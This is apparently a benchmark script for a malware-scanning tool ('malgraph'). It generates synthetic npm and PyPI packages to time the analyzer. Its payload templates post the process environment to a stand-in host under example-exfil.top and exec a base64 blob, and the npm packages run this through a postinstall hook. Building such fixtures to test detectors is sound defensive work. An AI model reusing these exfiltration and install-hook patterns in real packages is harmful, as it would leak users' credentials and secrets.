"""Benchmark: `malgraph analyze` over generated packages of typical malware size.

    python benchmarks/analyze_packages.py [--packages 1000] [--workdir DIR]

Generates inert npm tarballs and PyPI sdists with 1-50 KB of code each (log-uniform: library-
like functions with random names and strings around a payload that would decode a base64 blob,
exec it and post the environment; a minified copy now and then; an install hook),
registers them as local archives of package-versions in a store, then times, in a fresh
process, `malgraph analyze` on them all: reading each archive under caps, scanning every
file, and writing the features. Target (issue 4): >= 200 packages/s on 2 cores.
"""

from __future__ import annotations

import argparse
import base64
import csv
import json
import random
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from tests.inert_packages import tar_gz

# Library-like code around one payload, as malicious packages mostly are (a typosquat carries
# a copy of real code; a dropper is a few lines): loops, strings and objects, few imports.
JS_FUNCTION = """
function {f}({a}, {b}) {{
  const {c} = [];
  for (let i = 0; i < {a}.length; i++) {{
    if ({a}[i] % {n} === 0) {{ {c}.push({a}[i] + {b}); }}
    else {{ {c}.push(String({a}[i]).padStart({n}, '{s}')); }}
  }}
  return {c}.join('{s}'); // {s}
}}
"""
PY_FUNCTION = """
def {f}({a}, {b}):
    {c} = []
    for i, item in enumerate({a}):
        if item % {n} == 0:
            {c}.append(item + {b})
        else:
            {c}.append(str(item).rjust({n}, '{s}'))  # {s}
    return '{s}'.join({c})
"""
JS_PAYLOAD = """
const https = require('https');
const data = JSON.stringify(process.env);
eval(Buffer.from('{blob}', 'base64').toString());
https.request('https://{host}/collect', {{method: 'POST'}}).end(data);
"""
PY_PAYLOAD = """
import base64, os, requests
requests.post('https://{host}/collect', data=dict(os.environ))
exec(base64.b64decode('{blob}'))
"""


def _word(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 10)))


def _code(rng: random.Random, size: int, template: str, payload: str) -> str:
    blob = base64.b64encode(rng.randbytes(rng.randint(100, 1500))).decode()
    parts = [payload.format(blob=blob, host=f"{_word(rng)}.example-exfil.top")]
    while sum(map(len, parts)) < size:
        parts.append(
            template.format(
                f=_word(rng),
                a=_word(rng),
                b=_word(rng),
                c=_word(rng),
                s=_word(rng),
                n=rng.randint(2, 99),
            )
        )
    return "".join(parts)


def make_packages(folder: Path, count: int, seed: int = 7) -> list[tuple[str, str, str]]:
    """Write `count` archives into `folder`; return their (ecosystem, name, version)."""
    rng = random.Random(seed)
    made = []
    for i in range(count):
        # Log-uniform from 1 to 50 KB: most malicious packages are small, a few carry more.
        name, version, size = (
            f"bench-{_word(rng)}-{i}",
            f"1.0.{i % 7}",
            int(1024 * 50 ** rng.random()),
        )
        if i % 2:
            main = _code(rng, size, JS_FUNCTION, JS_PAYLOAD)
            files = {
                "package/package.json": json.dumps(
                    {
                        "name": name,
                        "version": version,
                        "scripts": {"postinstall": "node index.js"},
                        "dependencies": {"axios": "^1.0.0"},
                    }
                ).encode(),
                "package/index.js": main.encode(),
            }
            if i % 10 == 1:  # now and then a minified copy as well
                files["package/dist/min.js"] = " ".join(main.split()).encode()
            (folder / f"{name}-{version}.tgz").write_bytes(tar_gz(files))
            made.append(("npm", name, version))
        else:
            main = _code(rng, size, PY_FUNCTION, PY_PAYLOAD)
            root = f"{name}-{version}"
            files = {
                f"{root}/setup.py": (
                    f"from setuptools import setup\nsetup(name='{name}', "
                    f"version='{version}', install_requires=['requests'])\n"
                ).encode(),
                f"{root}/{name.replace('-', '_')}/__init__.py": main.encode(),
            }
            (folder / f"{root}.tar.gz").write_bytes(tar_gz(files))
            made.append(("PyPI", name, version))
    return made


def fetched_store(archives: Path, db: Path, packages: int) -> list[tuple[str, str, str]]:
    """`packages` generated packages written to `archives`, listed (in a CSV beside it) and
    fetched offline into the store `db`, as a user's stored flow starts. Returns what was made."""
    archives.mkdir(parents=True, exist_ok=True)
    db.parent.mkdir(parents=True, exist_ok=True)
    made = make_packages(archives, packages)
    listing = archives.parent / "bench-list.csv"
    with listing.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["Ecosystem", "Name", "Version"])
        writer.writerows(made)
    cli = [sys.executable, "-m", "malgraph", "--db", str(db)]
    subprocess.run([*cli, "ingest", "list", str(listing)], check=True, capture_output=True)
    subprocess.run(
        [*cli, "fetch", "--offline", "--from", str(archives)], check=True, capture_output=True
    )
    return made


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--packages", type=int, default=1000)
    parser.add_argument("--workdir", type=Path, default=None)
    args = parser.parse_args()
    work = args.workdir or Path(tempfile.mkdtemp(prefix="malgraph-bench-"))
    archives, db = work / "archives", work / "bench.db"
    made = fetched_store(archives, db, args.packages)
    cli = [sys.executable, "-m", "malgraph", "--db", str(db)]
    code_bytes = sum(p.stat().st_size for p in archives.iterdir())
    started = time.perf_counter()
    proc = subprocess.run([*cli, "analyze"], check=True, capture_output=True, text=True)
    seconds = time.perf_counter() - started
    print(proc.stdout.strip())
    print(f"packages:  {len(made)} ({code_bytes / 2**20:.1f} MiB of archives)")
    print(f"analyze:   {seconds:.2f} s  ->  {len(made) / seconds:.0f} packages/s (target >= 200)")


if __name__ == "__main__":
    main()
